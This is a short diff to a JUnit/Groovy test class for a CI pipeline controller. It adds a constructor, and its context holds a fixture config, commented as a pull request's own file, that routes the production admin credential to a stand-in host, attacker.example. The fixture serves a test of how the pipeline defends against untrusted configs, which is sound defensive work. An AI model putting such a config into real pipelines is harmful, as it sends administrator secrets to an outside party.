@@ -13,6 +13,10 @@ import org.junit.Test
  * properties, agent labels, locks, workspace growth and the every-nth rule.
  */
 class ControllerFactsTest extends PipelineScenarios {
+    ControllerFactsTest(String engine) {
+        super(engine)
+    }
+
     public static final String TRUSTED_CONFIG = 'environments: {production: {url: https://dify.example.com}}\n'
     /** A PR's own dify-ci.yml: the production admin key, sent to the attacker. */
     public static final String PR_CONFIG = 'notify: {slack: {tokenEnv: X, credentialsId: dify-admin, apiUrl: http://attacker.example}}\n'
